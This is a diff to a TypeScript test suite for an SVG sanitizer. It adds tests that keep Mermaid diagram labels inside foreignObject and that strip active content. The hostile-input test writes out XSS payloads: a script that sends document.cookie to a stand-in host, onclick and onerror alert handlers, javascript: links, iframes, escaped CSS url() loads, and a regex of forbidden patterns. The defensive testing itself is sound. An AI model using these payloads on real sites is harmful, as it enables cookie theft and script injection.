@@ -25,9 +25,9 @@ describe('sanitizeSvg', () => {
     expect(result).toEqual({
       svg:
         '<svg viewBox="0 0 10 10" xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="red"></stop></linearGradient></defs>' +
-        '<rect width="10" height="10" fill="url(#g)"></rect><rect style="fill:red"></rect><use href="#g"></use><text x="1">a &amp; &lt;b&gt; &lt;i&gt; </text></svg>',
-      removed: ['style', 'script', 'foreignObject', 'image'],
-      removedAttributes: ['onload', 'fill'],
+        '<rect width="10" height="10" fill="url(#g)"></rect><rect style="fill:red"></rect><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject><use href="#g"></use><text x="1">a &amp; &lt;b&gt; &lt;i&gt; </text></svg>',
+      removed: ['style', 'script', 'image'],
+      removedAttributes: ['onload', 'fill', 'onclick'],
     });
   });
 
@@ -59,6 +59,42 @@ describe('sanitizeSvg', () => {
     expect(result.svg).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect></rect><use></use><use></use><rect></rect><rect></rect></svg>');
     expect(result.removed).toEqual(['style', 'animate', 'set', 'feImage', 'textPath']);
     expect(result.removedAttributes).toEqual(['href', 'xlink:href', 'style', 'fill', 'filter']);
+  });
+
+  it('keeps the HTML labels of a Mermaid export inside <foreignObject>, in the XHTML namespace', () => {
+    const label = (text: string) =>
+      `<g class="label" transform="translate(-20, -12)"><rect></rect><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>${text}</p></span></div></foreignObject></g>`;
+    const result = sanitizeSvg(`<svg id="m" width="100%" viewBox="0 0 80 40"><style>#m .nodeLabel{color:#333}</style><g class="nodes">${label('__start__')}${label('agent &amp; tools<br>loop')}</g></svg>`)!;
+    expect(result.svg).toBe(
+      '<svg id="m" width="100%" viewBox="0 0 80 40" xmlns="http://www.w3.org/2000/svg"><style>#m .nodeLabel{color:#333}</style><g class="nodes">' +
+        '<g class="label" transform="translate(-20, -12)"><rect></rect><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>__start__</p></span></div></foreignObject></g>' +
+        '<g class="label" transform="translate(-20, -12)"><rect></rect><foreignObject width="40" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel"><p>agent &amp; tools<br/>loop</p></span></div></foreignObject></g>' +
+        '</g></svg>',
+    );
+    expect(result.removed).toEqual([]);
+    expect(result.removedAttributes).toEqual([]);
+  });
+
+  it('strips everything active from the HTML inside <foreignObject>: scripts, handlers, embeds, javascript: links, outside loads, nested SVG', () => {
+    const hostile =
+      '<svg viewBox="0 0 8 8"><foreignObject x="0" y="0" width="8" height="8">' +
+      '<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)" onmouseover="alert(2)" class="box">' +
+      '<script>fetch("http://127.0.0.1/steal?c=" + document.cookie)</script>Label' +
+      '<iframe src="http://127.0.0.1/admin"></iframe><object data="http://127.0.0.1/o.swf"></object><embed src="http://127.0.0.1/e"/>' +
+      '<a href="javascript:alert(document.domain)">click</a><span style="background:url(http://127.0.0.1/track.png)">styled</span>' +
+      '<span style="background:u\\72l(http://127.0.0.1/t)">escaped</span><img src="http://127.0.0.1/pixel.png" onerror="alert(3)"/>' +
+      '<form action="http://127.0.0.1/post"><input name="q"/><button>Go</button></form><style>p{background:url(http://127.0.0.1/s)}</style>' +
+      '<svg><foreignObject><iframe src="http://127.0.0.1/nested"></iframe></foreignObject><script>alert(4)</script></svg>' +
+      '<math><mi>x</mi></math><p data-x="1" aria-label="ok" id="p1" title="t">kept</p></div></foreignObject>' +
+      '<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1/x"></iframe></foreignObject></svg>';
+    const result = sanitizeSvg(hostile)!;
+    expect(result.svg).toBe(
+      '<svg viewBox="0 0 8 8" xmlns="http://www.w3.org/2000/svg"><foreignObject x="0" y="0" width="8" height="8"><div xmlns="http://www.w3.org/1999/xhtml" class="box">' +
+        'Labelclick<span>styled</span><span>escaped</span><p data-x="1" aria-label="ok" id="p1" title="t">kept</p></div></foreignObject></svg>',
+    );
+    expect(result.svg).not.toMatch(/<script|\bon[a-z]+=|javascript:|127\.0\.0\.1|<iframe|<object|<embed|<img|<form|<input|<style|url\(/i);
+    expect(result.removed).toEqual(['script', 'iframe', 'object', 'embed', 'img', 'form', 'style', 'svg', 'math']);
+    expect(result.removedAttributes).toEqual(['onclick', 'onmouseover', 'href', 'style']);
   });
 
   it('refuses a document whose root is not <svg>', () => {
